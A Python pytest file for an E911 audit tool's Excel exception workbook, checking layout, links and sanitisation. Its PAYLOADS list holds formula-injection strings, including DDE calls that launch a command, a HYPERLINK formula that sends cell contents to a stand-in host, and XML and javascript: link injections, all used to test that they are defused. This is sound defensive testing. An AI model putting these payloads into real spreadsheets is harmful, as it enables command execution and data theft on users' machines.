"""The exception workbook, read back with openpyxl and as the XML that Excel will see."""

import re
import zipfile
from dataclasses import fields, is_dataclass, replace
from datetime import date
from itertools import pairwise
from pathlib import Path
from urllib.parse import unquote
from xml.etree import ElementTree as ET

import openpyxl
import pytest
import python_calamine
from openpyxl.utils.escape import unescape
from reports_sample import finding, make_result

from e911audit.reports import write
from e911audit.reports.excel.content import LONGEST_TEXT, clean
from e911audit.reports.excel.link import address_of, cell_of, sheet_of
from e911audit.values import Severity, Status
from e911audit.views.result import Cell

SHEETS = [
    "Summary",
    "Blockers",
    "Findings",
    "Must Survive",
    "Port Hold",
    "Sites",
    "Not Judged",
    "Addresses",
    "Rejected Rows",
    "Waived",
    "Rules",
    "Sources",
]

FINDING_HEADERS = [
    *("Severity", "Rule", "Rule Name", "Site", "Subject", "Message", "Fix", "Cite", "Affects", "Source"),
    *("Original Value", "Decision", "Owner", "Due", "Waiver Reason", "Waived By", "Waive Until", "Note", "Seal"),
    "Key",
]

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.test/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://example.test","//a")',
    "==1",
    "=",
    "={1,2}",
    "{=1+1}",
    "+1+1",
    "+12125550100",
    "+1-1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\x00=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "00501",
    "2026-11-22",
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]><f>1</f>",
    '"><c t="str"><f>1+1</f></c>',
    "\ud800=1",
    "\u202e=1+1",
]


@pytest.fixture
def book(result, tmp_path):
    write(result, tmp_path / "exceptions.xlsx")
    return openpyxl.load_workbook(tmp_path / "exceptions.xlsx")


def poisoned(value, payload):
    """The same record with every free text replaced; numbers, dates and fixed words stay."""
    if type(value) is str:
        return payload
    if isinstance(value, tuple):
        return tuple(poisoned(each, payload) for each in value)
    if is_dataclass(value):
        kept = {"status"}
        return replace(
            value, **{f.name: poisoned(getattr(value, f.name), payload) for f in fields(value) if f.name not in kept}
        )
    return value


def parts(path, pattern):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist() if re.search(pattern, name)}


def rows(sheet):
    return list(sheet.iter_rows(values_only=True))


def test_sheets_stand_in_the_contracts_order(book):
    assert book.sheetnames == SHEETS


@pytest.mark.parametrize("name", ["Blockers", "Findings", "Waived"])
def test_finding_sheets_have_the_columns_of_the_round_trip(book, name):
    assert [cell.value for cell in book[name][1]] == FINDING_HEADERS


def test_every_finding_stands_where_it_belongs(book, result):
    def keys(name):
        return sorted(row[-1] for row in rows(book[name])[1:])

    still_open = [f for f in result.findings if f.status == Status.OPEN]
    assert keys("Findings") == sorted(f.key for f in still_open)
    assert keys("Blockers") == sorted(f.key for f in still_open if f.severity == Severity.BLOCKER)
    assert keys("Waived") == sorted(f.key for f in result.findings if f.status == Status.WAIVED)


def test_gravest_first(book):
    order = [row[0] for row in rows(book["Findings"])[1:]]
    assert order == sorted(order, key=list(Severity).index)


def test_a_finding_row_holds_the_finding(tmp_path):
    one = replace(finding(7), cells=(Cell("a.xlsx", "Phones", "H9"), Cell("b.xlsx", "DIDs", "C2")))
    write(replace(make_result(0), findings=(one,)), tmp_path / "one.xlsx")
    row = rows(openpyxl.load_workbook(tmp_path / "one.xlsx")["Findings"])[1]
    shown = dict(zip(FINDING_HEADERS, row, strict=True))
    assert shown["Severity"] == "blocker"
    assert shown["Rule Name"] == "No location on dial-capable endpoint"
    assert (shown["Subject"], shown["Site"], shown["Affects"]) == (one.subject, one.site, one.affects)
    assert (shown["Message"], shown["Fix"], shown["Cite"]) == (one.message, one.fix, "\n".join(one.cites))
    assert shown["Source"] == "a.xlsx Phones!H9 (and 1 more)"
    assert shown["Original Value"] == "00007"
    assert shown["Key"] == one.key
    assert [shown[name] for name in FINDING_HEADERS[11:18]] == [None] * 7


def test_numbers_and_zips_are_text(book):
    subject = book["Findings"]["E2"]
    assert subject.value.startswith("+1212")
    assert (subject.data_type, subject.number_format, bool(subject.quotePrefix)) == ("s", "@", True)
    zips = {row[6].value: row[6] for row in book["Addresses"].iter_rows(min_row=2)}
    assert zips["06510"].data_type == "s"
    assert zips["06510"].number_format == "@"
    original = book["Findings"]["K2"]
    assert re.fullmatch(r"\d{5}", original.value)
    assert original.data_type == "s"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula(result, tmp_path, payload):
    path = tmp_path / "bad.xlsx"
    names = [f.name for f in fields(result) if f.name not in {"totals", "as_of", "cutover"}]
    write(replace(result, **{name: poisoned(getattr(result, name), payload) for name in names}), path)
    sheets = parts(path, r"worksheets/sheet\d+\.xml$")
    assert len(sheets) == len(SHEETS)
    cells = [cell for xml in sheets.values() for cell in ET.fromstring(xml).iter() if cell.tag.endswith("}c")]  # noqa: S314
    assert cells
    assert not [cell for cell in cells if any(child.tag.endswith("}f") for child in cell)]
    assert {cell.get("t") for cell in cells} <= {"inlineStr", "n", None}
    shown = {cell.value for row in openpyxl.load_workbook(path)["Findings"].iter_rows() for cell in row}
    assert clean(payload) in shown


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@a", "\t=1"])
def test_triggers_carry_the_quote_prefix(tmp_path, payload):
    write(replace(make_result(0), findings=(replace(finding(1), original=payload),)), tmp_path / "q.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "q.xlsx")["Findings"]["K2"]
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (payload, "s", True)


def test_plain_text_carries_none(book):
    assert not book["Findings"]["F2"].quotePrefix


def test_hidden_characters_show():
    assert clean("a\x00b\x0b\x1fc\x7f") == "a\u2400b\u240b\u241fc\u2421"
    assert clean("\ud800 \ufffe \u202e \x85") == "\ufffd \ufffd \ufffd \ufffd"
    assert clean("one\r\ntwo\rthree\tfour") == "one\ntwo\nthree\tfour"


def test_what_a_reader_would_decode_is_escaped():
    assert clean("_x0041_ _x00e9_ _x12_") == "_x005F_x0041_ _x005F_x00e9_ _x12_"
    assert unescape(clean("_x0041_")) == "_x0041_"


@pytest.mark.parametrize("text", ["a" * 40_000, "\N{FIRE ENGINE}" * 20_000, "a" + "\N{FIRE ENGINE}" * 20_000])
def test_over_long_text_is_cut_with_a_mark(text):
    cut = clean(text)
    assert len(cut.encode("utf-16-le")) // 2 in (LONGEST_TEXT, LONGEST_TEXT - 1)
    length = len(text.encode("utf-16-le")) // 2
    assert cut.endswith(f"[cut here: {length:,} characters in the source]")


def test_text_of_the_greatest_length_is_whole(tmp_path):
    text = "a" * LONGEST_TEXT
    write(replace(make_result(0), findings=(replace(finding(1), message=text),)), tmp_path / "l.xlsx")
    assert openpyxl.load_workbook(tmp_path / "l.xlsx")["Findings"]["F2"].value == text


def test_another_reader_sees_the_same(result, tmp_path):
    """python-calamine reads the sheets independently of openpyxl."""
    write(result, tmp_path / "a.xlsx")
    mine = openpyxl.load_workbook(tmp_path / "a.xlsx")
    other = python_calamine.CalamineWorkbook.from_path(tmp_path / "a.xlsx")
    assert other.sheet_names == SHEETS
    for name in SHEETS[1:]:
        seen = other.get_sheet_by_name(name).to_python(skip_empty_area=False)
        wanted = [["" if value is None else value for value in row] for row in rows(mine[name])]
        assert [[str(value).removesuffix(".0") for value in row] for row in seen] == [
            [str(value).removesuffix(" 00:00:00") for value in row] for row in wanted
        ]


def test_same_result_same_bytes(tmp_path):
    for name in ("a.xlsx", "b.xlsx"):
        write(make_result(), tmp_path / name)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_no_clock_in_the_file(result, tmp_path):
    write(result, tmp_path / "a.xlsx")
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.testzip() is None
    facts = openpyxl.load_workbook(tmp_path / "a.xlsx").properties
    assert facts.created.date() == facts.modified.date() == result.as_of
    assert facts.title == "E911 migration audit: exceptions"


def test_reviewers_columns_are_checked_and_coloured(book):
    sheet = book["Findings"]
    last = sheet.max_row
    checks = {str(check.sqref): check for check in sheet.data_validations.dataValidation}
    decisions = checks[f"L2:L{last}"]
    assert decisions.type == "list"
    assert decisions.formula1 == '"accept,fix,waive,false alarm,later"'
    assert {checks[f"{letter}2:{letter}{last}"].type for letter in "NQ"} == {"date"}
    assert {str(area.sqref) for area in sheet.conditional_formatting} == {
        f"{letter}2:{letter}{last}" for letter in "LMNOPQR"
    }
    assert sheet["L1"].fill.start_color.rgb != sheet["K1"].fill.start_color.rgb


@pytest.mark.parametrize("name", SHEETS[1:])
def test_sheets_are_ready_to_read_and_to_print(book, name):
    sheet = book[name]
    assert sheet.freeze_panes in {"A2", "B2", "C2"}
    assert sheet.auto_filter.ref == sheet.dimensions
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.page_setup.fitToHeight) == (True, 0)
    assert "&P" in sheet.oddFooter.right.text or "&[Page]" in sheet.oddFooter.right.text


def test_severity_is_a_word_with_a_colour_that_darkens(book):
    def darkness(cell):
        red, green, blue = (int(cell.fill.start_color.rgb[at : at + 2], 16) for at in (2, 4, 6))
        return 0.299 * red + 0.587 * green + 0.114 * blue

    first = {row[0].value: row[0] for row in book["Findings"].iter_rows(min_row=2)}
    greys = [darkness(first[severity]) for severity in Severity]
    assert greys == sorted(greys)
    assert all(later - earlier > 20 for earlier, later in pairwise(greys))


def test_summary_tells_first_what_was_not_judged(book):
    texts = [str(row[0]) for row in rows(book["Summary"]) if row[0]]
    assert texts[1].startswith("Not judged: Of 8 rules, 2 could not be judged at all and 1 only in part")
    assert texts[2].startswith("NO-GO: 22 open blockers; 3 of 4 sites")
    assert texts.index("What was not judged") < texts.index("Go or no-go for each site")


def test_nothing_green_stands_above_the_unjudged(result, tmp_path):
    calm = replace(result, findings=(), sites=tuple(replace(site, go=True) for site in result.sites))
    write(calm, tmp_path / "calm.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "calm.xlsx")["Summary"]
    assert sheet["A3"].value.startswith("NOT JUDGED: ")
    fills = [(row[0].row, cell.fill.start_color.rgb) for row in sheet.iter_rows() for cell in row]
    heading = next(row[0].row for row in sheet.iter_rows() if row[0].value == "What was not judged")
    assert min(number for number, colour in fills if colour == "00CDE8D0") > heading


def test_go_only_when_all_was_judged(result, tmp_path):
    judged = tuple(replace(o, state="clean", unjudged=0, missing=()) for o in result.outcomes)
    sites = tuple(replace(site, go=True) for site in result.sites)
    write(replace(result, findings=(), sites=sites, outcomes=judged), tmp_path / "go.xlsx")
    assert openpyxl.load_workbook(tmp_path / "go.xlsx")["Summary"]["A3"].value.startswith("GO: 4 sites")


def test_charts_read_the_cells_of_the_summary(book, tmp_path):
    charts = parts(tmp_path / "exceptions.xlsx", r"charts/chart\d\.xml$")
    assert len(charts) == 2
    sheet = book["Summary"]
    severities = charts["xl/charts/chart1.xml"].decode()
    names, counts = re.findall(r"<(?:\w+:)?f>'Summary'!\$([A-Z])\$(\d+):\$[A-Z]\$(\d+)<", severities)
    assert [sheet[f"{names[0]}{n}"].value for n in range(int(names[1]), int(names[2]) + 1)] == list(Severity)
    assert [sheet[f"{counts[0]}{n}"].value for n in range(int(counts[1]), int(counts[2]) + 1)] == [22, 13, 13, 7]


@pytest.mark.parametrize("name", SHEETS[1:])
def test_an_empty_sheet_says_so(empty, tmp_path, name):
    write(empty, tmp_path / "empty.xlsx")
    lines = rows(openpyxl.load_workbook(tmp_path / "empty.xlsx")[name])
    assert len(lines) == 2
    assert lines[1][0].endswith(".")
    assert not any(lines[1][1:])


def test_an_empty_run_is_no_go_ahead(empty, tmp_path):
    write(empty, tmp_path / "empty.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "empty.xlsx")["Summary"]
    assert sheet["A3"].value.startswith("NOT JUDGED")


def test_source_links_to_the_cell(result, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write(result, Path("exceptions.xlsx"))
    sheet = openpyxl.load_workbook("exceptions.xlsx")["Findings"]
    link = sheet["J2"].hyperlink
    assert link.target == "exports/callmanager.xlsx"
    assert link.location == f"'Phones'!{sheet['J2'].value.rpartition('!')[2]}"


@pytest.mark.parametrize(
    ("cell", "target", "location"),
    [
        (Cell("a b/x#1.xlsx", "It's", "C17"), "a%20b/x%231.xlsx", "'It''s'!C17"),
        (Cell("x.csv", "", "C17"), "x.csv", None),
        (Cell("all.zip/in/x.xlsx", "DIDs", "C17"), "all.zip", None),
        (Cell("javascript:alert(1)", "", "A1"), "javascript%3Aalert%281%29", None),
        (Cell("http://example.test/x.xlsx", "S", "A1"), "http%3A/example.test/x.xlsx", "'S'!A1"),
        (Cell("x.xlsx", "bad\x00\ud800", ""), "x.xlsx", "'bad\u2400\ufffd'!A1"),
    ],
)
def test_a_link_leads_to_a_file_and_nowhere_else(tmp_path, monkeypatch, cell, target, location):
    monkeypatch.chdir(tmp_path)
    address, has_sheets = address_of(cell.path, Path())
    assert (address, sheet_of(cell) + cell_of(cell) if has_sheets else None) == (target, location)


def test_a_link_is_relative_to_the_workbook(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert address_of("exports/x.xlsx", Path("out")) == ("../exports/x.xlsx", True)


@pytest.mark.parametrize("path", ["", "\udcff.xlsx", "d/" * 1500 + "x.xlsx"])
def test_no_link_where_none_can_lead(tmp_path, monkeypatch, path):
    monkeypatch.chdir(tmp_path)
    assert address_of(path, Path())[0] == ""
    result = replace(make_result(0), findings=(replace(finding(1), cells=(Cell(path, "S", "A1"),)),))
    write(result, Path("exceptions.xlsx"))
    assert openpyxl.load_workbook("exceptions.xlsx")["Findings"]["J2"].hyperlink is None


def test_each_link_leads_to_its_own_file(tmp_path, monkeypatch):
    """Links of one sheet share addresses; what is markup in XML comes through whole."""
    monkeypatch.chdir(tmp_path)
    cells = [Cell(f"{name}.xlsx", sheet, "C1") for name in ("a", "b&'\"<", "a") for sheet in ("S", 'T&"<>')]
    found = tuple(
        replace(finding(n), key=f"k{n}", severity=Severity.INFO, site="", cells=(cell,)) for n, cell in enumerate(cells)
    )
    write(replace(make_result(0), findings=found), Path("exceptions.xlsx"))
    sheet = openpyxl.load_workbook("exceptions.xlsx")["Findings"]
    links = [sheet[f"J{row}"].hyperlink for row in range(2, 8)]
    assert [unquote(link.target) for link in links] == [cell.path for cell in cells]
    assert [link.location for link in links] == [f"'{cell.sheet}'!C1" for cell in cells]


def test_more_links_than_a_sheet_holds_are_left_out(monkeypatch, tmp_path):
    monkeypatch.setattr("e911audit.reports.excel.link.MOST_LINKS", 3)
    write(make_result(40), tmp_path / "many.xlsx")
    cells = [row[9] for row in openpyxl.load_workbook(tmp_path / "many.xlsx")["Findings"].iter_rows(min_row=2)]
    assert [cell.hyperlink is not None for cell in cells] == [True] * 3 + [False] * (len(cells) - 3)
    assert all(cell.value for cell in cells)


def test_more_rows_than_a_sheet_holds_are_told(monkeypatch, tmp_path):
    monkeypatch.setattr("e911audit.reports.excel.table.MOST_ROWS", 5)
    write(make_result(40), tmp_path / "many.xlsx")
    lines = rows(openpyxl.load_workbook(tmp_path / "many.xlsx")["Findings"])
    still_open = sum(f.status == Status.OPEN for f in make_result(40).findings)
    assert len(lines) == 7
    assert lines[-1][0].startswith(f"{still_open - 5} more do not fit")


@pytest.mark.parametrize("most", [5, 22, 30, 100])
def test_rows_are_numbered_through(monkeypatch, tmp_path, most):
    """Findings begins with the rows of Blockers, but never with the line that tells how many blockers are left."""
    monkeypatch.setattr("e911audit.reports.excel.table.MOST_ROWS", most)
    result = make_result(40)
    write(result, tmp_path / "many.xlsx")
    lengths = []
    for xml in parts(tmp_path / "many.xlsx", r"worksheets/sheet[23]\.xml$").values():
        numbers = [int(number) for number in re.findall(rb'<row r="(\d+)"', xml)]
        assert numbers == list(range(1, len(numbers) + 1))
        lengths.append(len(numbers) - 1)
    still_open = [f.severity for f in result.findings if f.status == Status.OPEN]
    assert lengths == [min(count, most + 1) for count in (still_open.count(Severity.BLOCKER), len(still_open))]


def test_cells_stand_in_the_row_that_names_them(result, tmp_path):
    write(result, tmp_path / "a.xlsx")
    for xml in parts(tmp_path / "a.xlsx", r"worksheets/sheet\d+\.xml$").values():
        for row in ET.fromstring(xml).iter("{http://schemas.openxmlformats.org/spreadsheetml/2006/main}row"):  # noqa: S314
            assert {re.sub("[A-Z]", "", cell.get("r")) for cell in row} <= {row.get("r")}


@pytest.mark.parametrize("text", [" 5", "5 ", "\n5", "5\n", "two  blanks"])
def test_blanks_around_a_text_stay(tmp_path, text):
    """XML keeps them for a reader only where the text asks for it."""
    write(replace(make_result(0), findings=(replace(finding(1), original=text),)), tmp_path / "b.xlsx")
    assert openpyxl.load_workbook(tmp_path / "b.xlsx")["Findings"]["K2"].value == text
    xml = parts(tmp_path / "b.xlsx", r"worksheets/sheet3\.xml$")["xl/worksheets/sheet3.xml"].decode()
    assert (f'<t xml:space="preserve">{text}</t>' in xml) == (text != text.strip())


def test_dates_are_dates(book):
    assert book["Sources"]["M2"].value.date() == date(2026, 11, 2)
    assert book["Summary"]["B5"].value.date() == date(2026, 11, 22)


def test_a_file_without_sheets_is_listed(book):
    files = [row[0] for row in rows(book["Sources"])[1:]]
    assert files == ["exports/callmanager.xlsx"] * 2 + [
        "exports/carrier.zip/csr.csv",
        "exports/broken.xls",
        "exports/empty.xlsx",
    ]
